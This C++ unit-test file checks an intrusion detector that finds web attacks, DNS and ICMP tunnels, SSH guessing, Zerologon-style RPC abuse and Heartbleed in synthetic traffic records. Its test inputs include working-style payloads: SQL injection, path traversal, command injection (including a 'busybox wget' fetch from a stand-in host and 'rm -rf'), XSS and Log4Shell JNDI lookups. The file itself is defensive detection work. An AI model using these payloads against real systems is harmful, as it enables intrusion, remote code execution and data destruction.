// What every detector must have, and those whose logic is small enough to be shown on made-up rows.
#include <gtest/gtest.h>

#include "detect/detector.h"
#include "detect/rows.h"
#include "detect/web_patterns.h"
#include "protocol/dce_rpc/dce_rpc.h"
#include "protocol/dns/dns.h"
#include "protocol/http/http.h"
#include "protocol/icmp/icmp.h"
#include "protocol/ssh/ssh.h"
#include "protocol/tls/ssl_record.h"

namespace whodunit::detect {
namespace {

using test::head;
using test::run;

TEST(Detectors, SayWhatTheyAre) {
  std::set<std::string_view> names;
  for (const Entry& e : detectors()) {
    const auto d = e.make({});
    EXPECT_EQ(d->description().name, e.name);
    EXPECT_TRUE(names.insert(e.name).second) << "two detectors of one name";
    EXPECT_FALSE(d->description().method.empty()) << e.name << " names no source";
    EXPECT_FALSE(d->description().benign.empty()) << e.name << " does not say what is benign and looks alike";
    EXPECT_FALSE(d->needs().records.empty()) << e.name;
    std::vector<Finding> none;
    d->finish({}, none);
    EXPECT_TRUE(none.empty()) << e.name << " finds something in nothing";
  }
}

// --- web attacks

protocol::http::Http request(std::string_view uri, std::uint64_t status, std::string_view body = {},
                             std::string_view agent = "Mozilla/5.0") {
  protocol::http::Http h;
  h.head = head("203.0.113.66", "192.0.2.10", 80, 1);
  h.method = "GET";
  h.host = "www.example";
  h.uri = uri;
  h.user_agent = agent;
  h.status_code = status;
  h.response_body = body;
  return h;
}

struct WebCase {
  const char* uri;
  const char* attack;  ///< nullptr: benign
};

TEST(WebAttack, TellsAttacksFromOrdinaryRequests) {
  const WebCase cases[] = {
      {"/item?id=1' OR '1'='1", "SQL injection"},
      {"/item?id=-1 UNION ALL SELECT 1,user(),3--", "SQL injection"},
      {"/item?id=1%20union%20select%201,2", "SQL injection"},
      {"/item?id=1;waitfor delay '0:0:5'", "SQL injection"},
      {"/view?page=../../../../etc/passwd", "path traversal"},
      {"/cgi-bin/.%2e/%2e%2e/%2e%2e/etc/passwd", "path traversal"},
      {"/view?page=php://filter/convert.base64-encode/resource=index", "path traversal"},
      {"/ping?host=127.0.0.1;cat /etc/hosts", "command injection"},
      {"/ping?host=$(id)", "command injection"},
      {"/search?q=<script>alert(1)</script>", "cross-site scripting"},
      {"/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "cross-site scripting"},
      {"/?x=${jndi:ldap://198.51.100.7/a}", "Log4Shell"},
      {"/?x=${${lower:j}ndi:${lower:l}dap://198.51.100.7/a}", "Log4Shell"},
      {"/?x=%24%7Bjndi%3Armi%3A%2F%2F198.51.100.7%2Fa%7D", "Log4Shell"},
      {"/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/hosts", "path traversal"},
      {"/vpn/../vpns/cfg/smb.conf", "path traversal"},
      {"/shell?cd+/tmp;rm+-rf+*", "command injection"},
      {"/cgi-bin/status?x=;cat${IFS}/etc/hosts", "command injection"},
      {"/index.php?s=index/think\\app/invokefunction&function=call_user_func_array&vars[0]=system",
       "command injection"},
      {"/%24%7B%40java.lang.Runtime%40getRuntime%28%29%7D/", "template or expression injection"},
      {"/user/register?element_parents=account/mail/%23value&mail[#post_render][]=exec",
       "template or expression injection"},
      {"/autodiscover/autodiscover.json?@x.example/mapi/nspi?&Email=autodiscover/autodiscover.json%3f@x.example",
       "web scanner"},
      {"/", nullptr},
      {"/docs/java.lang.html", nullptr},
      {"/shell?topic=cd-players", nullptr},
      {"/vpn/index.html", nullptr},
      {"/search?q=select a union for your trade", nullptr},
      {"/search?q=cats and dogs", nullptr},
      {"/news/2024/11/script-writers-on-strike.html?ref=home&id=10", nullptr},
      {"/static/../img/logo.png", nullptr},
      {"/api/v1/items?filter=name eq 'O''Brien'", nullptr},
      {"/shop?price=10-20&sort=price;asc", nullptr},
      {"/docs/sql/order-by-and-group-by", nullptr},
      {"/path?u=https://example.com/wp-content/curl-tutorial", nullptr},
  };
  for (const WebCase& c : cases) {
    record::Batch batch(protocol::http::Http::schema);
    request(c.uri, 404).append_to(batch, {});
    const auto f = run("web_attack", batch);
    if (c.attack == nullptr) {
      EXPECT_TRUE(f.empty()) << c.uri << " → " << f[0].statement;
    } else {
      ASSERT_FALSE(f.empty()) << c.uri;
      EXPECT_EQ(f[0].fact("class"), c.attack) << c.uri;
      EXPECT_EQ(f[0].outcome, Outcome::kAttempted) << c.uri;
    }
  }
}

TEST(WebAttack, InBodiesAndTypes) {
  const auto attack_of = [](std::string_view type, std::string_view body) {
    record::Batch batch(protocol::http::Http::schema);
    protocol::http::Http h = request("/upload.action", 200);
    h.method = "POST";
    h.request_content_type = type;
    h.request_body = body;
    h.append_to(batch, {});
    const auto f = run("web_attack", batch);
    return f.empty() ? std::string() : std::string(f[0].fact("class"));
  };
  EXPECT_EQ(attack_of("%{(#_='multipart/form-data').(#cmd='id')}", ""), "template or expression injection") << "Struts";
  EXPECT_EQ(attack_of("application/octet-stream", std::string_view("\xac\xed\0\5sr", 6)), "unsafe deserialisation");
  EXPECT_EQ(attack_of("text/xml", "<NewStatusURL>$(busybox wget http://198.51.100.7/x)</NewStatusURL>"),
            "command injection");
  EXPECT_EQ(attack_of("text/xml", "<p:ExecuteShellCommand_INPUT><p:command>id</p:command>"), "command injection");
  EXPECT_EQ(attack_of("multipart/form-data; boundary=x", "--x\r\nname=java.lang"), "");
  EXPECT_EQ(attack_of("application/json", R"({"name":"Language","lang":"en"})"), "");
}

TEST(WebAttack, TheAnswerDecides) {
  record::Batch batch(protocol::http::Http::schema);
  request("/view?page=../../../../etc/passwd", 200, "root:x:0:0:root:/root:/bin/bash\n").append_to(batch, {});
  const auto f = run("web_attack", batch);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].outcome, Outcome::kSucceeded);
  EXPECT_EQ(f[0].phase, Phase::kEntry);
}

TEST(WebAttack, ASuccessOnlyByStatusIsUnknown) {
  record::Batch batch(protocol::http::Http::schema);
  request("/?x=${jndi:ldap://198.51.100.7/a}", 200, "<html>hello</html>").append_to(batch, {});
  EXPECT_EQ(run("web_attack", batch).at(0).outcome, Outcome::kUnknown);
}

// --- DNS tunnels

protocol::dns::Dns query(const std::string& name, std::uint64_t type, double at, std::uint64_t reply = 120) {
  protocol::dns::Dns d;
  d.head = head("10.0.0.5", "10.0.0.1", 53, at);
  d.query = name;
  d.qtype = type;
  d.query_bytes = name.size() + 18;
  d.reply_bytes = d.query_bytes.value() + reply;
  return d;
}

TEST(DnsTunnel, FindsDataInNames) {
  record::Batch batch(protocol::dns::Dns::schema);
  std::vector<std::string> names;
  for (int i = 0; i < 60; ++i)
    names.push_back(base::digest_hex(base::DigestKind::kSha256, base::as_bytes(std::to_string(i))).substr(0, 48) +
                    ".t.example");
  for (int i = 0; i < 60; ++i)
    query(names[static_cast<std::size_t>(i)], 16, i).append_to(batch, {static_cast<std::uint64_t>(i), 0});
  const auto f = run("dns_tunnel", batch);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].fact("domain"), "t.example");
  EXPECT_EQ(f[0].victim.value, "10.0.0.5");
}

TEST(ProtocolExploit, AResolverThatPassesOnIsNotTheAttacker) {
  const auto attacker = [](bool authoritative, bool resolver) {
    record::Batch batch(protocol::dns::Dns::schema);
    protocol::dns::Dns d = query("9.evil.example", 24, 1, 65515);
    d.AA = authoritative;
    d.RA = resolver;
    d.append_to(batch, {});
    return run("protocol_exploit", batch).at(0).attacker;
  };
  EXPECT_EQ(attacker(true, false), (Entity{"host", "10.0.0.1"}));
  EXPECT_EQ(attacker(false, true), (Entity{"domain", "evil.example"}));
}

TEST(DnsTunnel, OneNameThatBeginsAsAFileIsEnough) {
  const auto found = [](const std::string& name) {
    record::Batch batch(protocol::dns::Dns::schema);
    query(name, 1, 1).append_to(batch, {});
    return run("dns_tunnel", batch);
  };
  const auto f = found("H4sICN03aa2Qaa3rlc3QudHh0AAvJyCxWAKJEhe.lU5pQMw5uLv7t8s.evil.example");
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].phase, Phase::kTheft);
  EXPECT_NE(f[0].statement.find("begins as gzip data does"), std::string::npos);
  EXPECT_EQ(found("504b030414000000080012345678aabbccddeeff00112233.evil.example").size(), 1u);
  EXPECT_TRUE(found("h4sic.evil.example").empty()) << "short: a name like any other";
  EXPECT_TRUE(found("ah4sicn03aa2qaa3rlc3qudhh0aavjycxwakjehelu5klu.evil.example").empty());
}

TEST(DnsTunnel, LeavesContentNetworksAlone) {
  record::Batch batch(protocol::dns::Dns::schema);
  std::vector<std::string> names;
  for (int i = 0; i < 200; ++i) names.push_back("e" + std::to_string(10000 + i * 7) + ".dscb.cdn.example");
  for (int i = 0; i < 200; ++i)
    query(names[static_cast<std::size_t>(i)], 1, i, 30).append_to(batch, {static_cast<std::uint64_t>(i), 0});
  EXPECT_TRUE(run("dns_tunnel", batch).empty());
}

// --- SSH guessing

TEST(BruteForce, ToldFromOneForgottenKey) {
  record::Batch many(protocol::ssh::Ssh::schema), few(protocol::ssh::Ssh::schema);
  for (int i = 0; i < 30; ++i) {
    protocol::ssh::Ssh s;
    s.head = head("203.0.113.66", "192.0.2.10", 22, 2 * i);
    s.auth_attempts = 3;
    s.auth_success = i == 29;
    s.append_to(many, {static_cast<std::uint64_t>(i), 0});
    if (i < 2) s.append_to(few, {static_cast<std::uint64_t>(i), 0});
  }
  const auto f = run("brute_force", many);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].outcome, Outcome::kSucceeded);
  EXPECT_EQ(f[0].phase, Phase::kEntry);
  EXPECT_TRUE(run("brute_force", few).empty());
}

// --- remote procedure calls

TEST(RemoteProcedure, ZerologonNeedsManyTriesWithinAMinute) {
  record::Batch fast(protocol::dce_rpc::DceRpc::schema), slow(protocol::dce_rpc::DceRpc::schema);
  for (int i = 0; i < 40; ++i) {
    protocol::dce_rpc::DceRpc r;
    r.endpoint = "netlogon";
    r.operation = "NetrServerAuthenticate3";
    r.head = head("10.0.0.66", "10.0.0.2", 49670, i * 0.1);
    r.append_to(fast, {static_cast<std::uint64_t>(i), 0});
    r.head = head("10.0.0.66", "10.0.0.2", 49670, i * 600.0);
    r.append_to(slow, {static_cast<std::uint64_t>(i), 0});
  }
  const auto f = run("remote_procedure", fast);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].fact("cve"), "CVE-2020-1472");
  EXPECT_TRUE(run("remote_procedure", slow).empty()) << "machines log on all the time";
}

TEST(RemoteProcedure, ZerologonSucceedsWhereOneOfManyIsGranted) {
  const auto outcome = [](std::uint64_t most, std::uint64_t last) {
    record::Batch batch(protocol::dce_rpc::DceRpc::schema);
    for (int i = 0; i < 40; ++i) {
      protocol::dce_rpc::DceRpc r;
      r.endpoint = "netlogon";
      r.operation = "NetrServerAuthenticate3";
      r.head = head("10.0.0.66", "10.0.0.2", 49670, i * 0.1);
      r.return_value = i == 39 ? last : most;
      r.append_to(batch, {static_cast<std::uint64_t>(i), 0});
    }
    return run("remote_procedure", batch);
  };
  EXPECT_EQ(outcome(0xc0000022, 0).at(0).outcome, Outcome::kSucceeded);
  EXPECT_EQ(outcome(0xc0000022, 0xc0000022).at(0).outcome, Outcome::kAttempted);
  EXPECT_TRUE(outcome(0, 0).empty()) << "whoever is let in each time does not guess";
}

TEST(RemoteProcedure, WhatAnOperationReturnsSaysWhetherItWasDone) {
  const auto call = [](std::string_view interface, std::string_view operation, std::optional<std::uint64_t> returned) {
    record::Batch batch(protocol::dce_rpc::DceRpc::schema);
    protocol::dce_rpc::DceRpc r;
    r.head = head("10.0.0.66", "10.0.0.2", 445, 1);
    r.endpoint = interface;
    r.operation = operation;
    r.rtt = base::milliseconds(2);
    r.return_value = returned;
    const std::string_view strings[] = {"\\\\10.0.0.66\\x"};
    r.strings = strings;
    r.append_to(batch, {});
    return run("remote_procedure", batch).at(0);
  };
  EXPECT_EQ(call("svcctl", "CreateServiceW", 0).outcome, Outcome::kSucceeded);
  EXPECT_EQ(call("svcctl", "CreateServiceW", std::nullopt).outcome, Outcome::kSucceeded) << "encrypted, and answered";
  EXPECT_EQ(call("svcctl", "StartServiceW", 1053).outcome, Outcome::kSucceeded) << "a command is no service, and ran";
  const Finding refused = call("spoolss", "RpcAddPrinterDriverEx", 5);
  EXPECT_EQ(refused.outcome, Outcome::kAttempted);
  EXPECT_NE(refused.statement.find("tried to install a printer driver on 10.0.0.2"), std::string::npos);
  EXPECT_NE(refused.statement.find("; refused"), std::string::npos);
  EXPECT_NE(call("svcctl", "CreateServiceW", 1072).statement.find("; it failed (error 0x430)"), std::string::npos);
  EXPECT_EQ(call("IWbemServices", "ExecMethod", 0x80041003).outcome, Outcome::kAttempted);
  // A server that was made to call back finds no share there; that is the sign that it went (PetitPotam).
  EXPECT_EQ(call("efsrpc", "EfsRpcOpenFileRaw", 53).outcome, Outcome::kSucceeded);
  EXPECT_EQ(call("efsrpc", "EfsRpcOpenFileRaw", 5).outcome, Outcome::kAttempted);
}

TEST(RemoteProcedure, ControllersReplicateBothWays) {
  record::Batch batch(protocol::dce_rpc::DceRpc::schema);
  for (const auto& [a, b] :
       {std::pair("10.0.0.2", "10.0.0.3"), std::pair("10.0.0.3", "10.0.0.2"), std::pair("10.0.0.66", "10.0.0.2")}) {
    protocol::dce_rpc::DceRpc r;
    r.endpoint = "drsuapi";
    r.operation = "DRSGetNCChanges";
    r.head = head(a, b, 49668, 1);
    r.append_to(batch, {});
  }
  const auto f = run("remote_procedure", batch);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].attacker.value, "10.0.0.66");
}

// --- ICMP, Heartbleed

TEST(IcmpTunnel, APingIsNone) {
  record::Batch ping(protocol::icmp::Icmp::schema), tunnel(protocol::icmp::Icmp::schema);
  protocol::icmp::Icmp i;
  i.head = head("10.0.0.5", "198.51.100.1", 0, 1);
  i.orig_messages = i.resp_messages = 100;
  i.orig_bytes = i.resp_bytes = 6400;
  i.distinct_payloads = 1;
  i.distinct_sizes = 1;
  i.unanswered = 0;
  i.altered = 0;
  i.patterned = 200;
  i.pattern = "counting";
  i.append_to(ping, {});
  i.altered = 80;
  i.patterned = 0;
  i.distinct_payloads = 150;
  i.pattern = "ip";
  i.append_to(tunnel, {});
  EXPECT_TRUE(run("icmp_tunnel", ping).empty());
  ASSERT_EQ(run("icmp_tunnel", tunnel).size(), 1u);
}

TEST(ProtocolExploit, AHeartbeatThatLies) {
  record::Batch batch(protocol::tls::Ssl::schema);
  protocol::tls::Ssl s;
  s.head = head("203.0.113.66", "192.0.2.10", 443, 1);
  s.heartbeat_excess = 0;
  s.append_to(batch, {});
  EXPECT_TRUE(run("protocol_exploit", batch).empty());
  s.heartbeat_excess = 16381;
  s.append_to(batch, {});
  ASSERT_EQ(run("protocol_exploit", batch).size(), 1u);
}

}  // namespace
}  // namespace whodunit::detect
